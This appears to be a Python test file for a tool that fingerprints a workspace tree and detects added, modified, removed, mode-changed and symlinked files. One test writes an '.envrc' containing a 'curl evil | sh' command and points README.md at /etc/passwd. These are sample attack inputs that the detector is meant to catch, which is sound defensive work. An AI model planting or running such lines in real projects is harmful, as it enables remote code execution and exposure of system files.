"""The whole-tree fingerprint: every change seen, stat first, generated folders skipped, bounded."""

from __future__ import annotations

import os
from pathlib import Path

from flow_core.verify._fingerprint import FingerprintScope, compare, take_fingerprint


def _tree(root: Path) -> None:
    (root / "src").mkdir()
    (root / "src" / "app.py").write_text("x = 1\n")
    (root / "README.md").write_text("hi\n")
    (root / ".venv" / "lib").mkdir(parents=True)
    (root / ".venv" / "lib" / "a.py").write_text("generated\n")
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")


def _kinds(changes) -> dict[str, str]:
    return {c.path: c.change for c in changes}


def test_every_kind_of_change_is_seen(tmp_path: Path) -> None:
    _tree(tmp_path)
    before = take_fingerprint(tmp_path, keep=True)
    assert set(before.files) == {"src/app.py", "README.md"}
    assert before.complete
    assert before.kept["src/app.py"] == b"x = 1\n"
    (tmp_path / ".envrc").write_text("curl evil | sh\n")
    (tmp_path / "src" / "app.py").write_text("x = 2\n")
    (tmp_path / "README.md").unlink()
    (tmp_path / "README.md").symlink_to("/etc/passwd")
    (tmp_path / "run.sh").write_text("echo\n")
    after_add = take_fingerprint(tmp_path, previous=before)
    os.chmod(tmp_path / "run.sh", 0o755)
    after = take_fingerprint(tmp_path, previous=after_add)
    assert _kinds(compare(after_add, after)) == {"run.sh": "mode_changed"}
    assert _kinds(compare(before, after)) == {
        ".envrc": "added",
        "src/app.py": "modified",
        "README.md": "type_changed",
        "run.sh": "added",
    }
    (tmp_path / "src" / "app.py").unlink()
    gone = take_fingerprint(tmp_path, previous=after)
    assert _kinds(compare(after, gone)) == {"src/app.py": "removed"}


def test_generated_folders_are_skipped_but_named_paths_inside_are_watched(tmp_path: Path) -> None:
    _tree(tmp_path)
    (tmp_path / ".vscode").mkdir()
    before = take_fingerprint(tmp_path, scope=FingerprintScope(also=(".vscode/tasks.json",)))
    (tmp_path / ".venv" / "lib" / "a.py").write_text("changed\n")
    (tmp_path / "node_modules").mkdir()
    (tmp_path / "node_modules" / "x.js").write_text("1\n")
    (tmp_path / ".vscode" / "tasks.json").write_text("{}\n")
    after = take_fingerprint(
        tmp_path, scope=FingerprintScope(also=(".vscode/tasks.json",)), previous=before
    )
    assert _kinds(compare(before, after)) == {".vscode/tasks.json": "added"}


def test_unchanged_files_are_not_read_again(tmp_path: Path) -> None:
    _tree(tmp_path)
    first = take_fingerprint(tmp_path)
    assert first.hashed_files == 2
    # Files changed just before (or while) the earlier walk ran are hashed again ("racy").
    first.started_ns = min(s.ctime_ns for s in first.files.values())
    assert take_fingerprint(tmp_path, previous=first).hashed_files == 2
    # An earlier walk well after the last change: a stat is enough.
    first.started_ns += 10**12
    second = take_fingerprint(tmp_path, previous=first)
    assert second.hashed_files == 0
    assert compare(first, second) == []


def test_restoring_mtime_does_not_hide_a_rewrite(tmp_path: Path) -> None:
    _tree(tmp_path)
    path = tmp_path / "src" / "app.py"
    before = take_fingerprint(tmp_path)
    before.started_ns += 10**12  # nothing is racy: only the stat comparison can see the write
    st = path.stat()
    path.write_text("x = 9\n")  # same size
    os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
    after = take_fingerprint(tmp_path, previous=before)
    assert after.hashed_files == 1
    assert _kinds(compare(before, after)) == {"src/app.py": "modified"}


def test_writes_by_flow_are_not_outside_changes(tmp_path: Path) -> None:
    import hashlib

    _tree(tmp_path)
    before = take_fingerprint(tmp_path)
    (tmp_path / "src" / "app.py").write_text("x = 3\n")
    (tmp_path / "new.py").write_text("y = 1\n")
    written = {
        "src/app.py": hashlib.sha256(b"x = 3\n").hexdigest(),
        "new.py": hashlib.sha256(b"y = 0\n").hexdigest(),  # changed after Flow wrote it
    }
    changes = compare(before, take_fingerprint(tmp_path), written=written)
    assert _kinds(changes) == {"new.py": "modified"}
    assert "after Flow's tool wrote it" in changes[0].detail


def test_bounds_give_an_honest_incomplete_result(tmp_path: Path) -> None:
    for i in range(20):
        (tmp_path / f"f{i}.txt").write_text("x" * 100)
    few = take_fingerprint(tmp_path, scope=FingerprintScope(max_files=10))
    assert not few.complete
    assert "more than 10 files" in (few.problem or "")
    small = take_fingerprint(tmp_path, scope=FingerprintScope(max_hash_bytes=500))
    assert not small.complete
    assert "bytes to hash" in (small.problem or "")
    assert take_fingerprint(tmp_path).complete


def test_links_are_never_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret").write_text("s\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "dir").symlink_to(outside)
    fp = take_fingerprint(ws)
    assert set(fp.files) == {"dir"}
    assert fp.files["dir"].kind == "link"


def test_generated_folders_follow_flow_safeios_rule(tmp_path: Path) -> None:
    # The same rule as listings and write refusals: any case, and a virtual environment by its
    # pyvenv.cfg whatever its name; an ordinary folder next to them is still watched.
    _tree(tmp_path)
    for folder in ("Node_Modules", "myenv", "src2"):
        (tmp_path / folder).mkdir()
    (tmp_path / "myenv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    before = take_fingerprint(tmp_path)
    for folder in ("Node_Modules", "myenv", "src2"):
        (tmp_path / folder / "new.py").write_text("x = 1\n")
    after = take_fingerprint(tmp_path, previous=before)
    assert _kinds(compare(before, after)) == {"src2/new.py": "added"}
